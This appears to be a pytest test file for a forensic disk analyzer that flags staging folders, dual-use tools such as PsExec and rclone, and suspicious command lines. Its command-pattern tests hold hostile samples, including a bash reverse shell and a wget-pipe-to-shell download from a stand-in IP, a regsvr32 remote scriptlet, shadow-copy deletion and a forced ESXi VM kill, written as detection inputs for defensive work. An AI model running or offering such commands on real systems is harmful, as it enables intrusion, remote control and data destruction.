"""The pure judgements behind the findings."""

from __future__ import annotations

import pytest

from madoguchi.analyzers.disk.judgements import (
    command_hits,
    dual_use_tool,
    is_staging,
    is_windows_system_dir,
)


@pytest.mark.parametrize(
    ("path", "staged"),
    [
        ("C:\\ProgramData\\x.exe", True),
        ("C:\\Users\\Public\\Documents\\a.exe", True),
        ("C:\\PerfLogs\\7za.exe", True),
        ("C:\\Users\\bob\\AppData\\Roaming\\x\\y.dll", True),
        ("C:\\Windows\\Temp\\psexesvc.exe", True),
        ("C:\\Program Files\\AnyDesk\\AnyDesk.exe", False),
        ("C:\\Windows\\System32\\svchost.exe", False),
        ("/tmp/.x/kworker", True),
        ("/dev/shm/a", True),
        ("/usr/bin/curl", False),
        ("/home/alice/.cache/thumbnails/a.png", False),
    ],
)
def test_staging_folders(path: str, staged: bool) -> None:
    assert is_staging(path) is staged


def test_system_dirs_are_not_confused_with_staging() -> None:
    assert is_windows_system_dir("C:\\Windows\\System32\\drivers\\x.sys")
    assert is_windows_system_dir("sysvol/windows/syswow64/a.dll")
    assert not is_windows_system_dir("C:\\ProgramData\\Windows\\System32\\a.dll")


def test_dual_use_tools_by_file_name() -> None:
    assert dual_use_tool("C:\\ProgramData\\PsExec64.exe").attack == ("T1569.002", "T1570")
    assert dual_use_tool("rclone.exe").attack == ("T1567.002",)
    assert dual_use_tool("C:\\Windows\\notepad.exe") is None


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        (
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe "
            "C:\\ProgramData\\a.xml",
            "msbuild-project",
        ),
        ("regsvr32 /s /n /u /i:http://198.51.100.1/a.sct scrobj.dll", "regsvr32-scriptlet"),
        ("powershell.exe -nop -w hidden -enc SQBFAFgA", "powershell-encoded"),
        ("code.exe tunnel --accept-server-license-terms", "vscode-tunnel"),
        ("vssadmin.exe delete shadows /all /quiet", "shadow-copy-deletion"),
        ("wget -qO- http://198.51.100.9/i.sh | sh", "download-pipe-shell"),
        ("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "reverse-shell"),
        ("esxcli vm process kill --type=force --world-id=1234", "esxi-vm-stop"),
    ],
)
def test_command_patterns(command: str, rule: str) -> None:
    assert rule in {hit.rule for hit in command_hits(command)}


@pytest.mark.parametrize(
    "command",
    [
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
        "/usr/sbin/sshd -D",
        "run-parts --report /etc/cron.daily",
        "MSBuild.exe /t:Build MySolution.sln",
    ],
)
def test_ordinary_commands_are_quiet(command: str) -> None:
    assert command_hits(command) == []
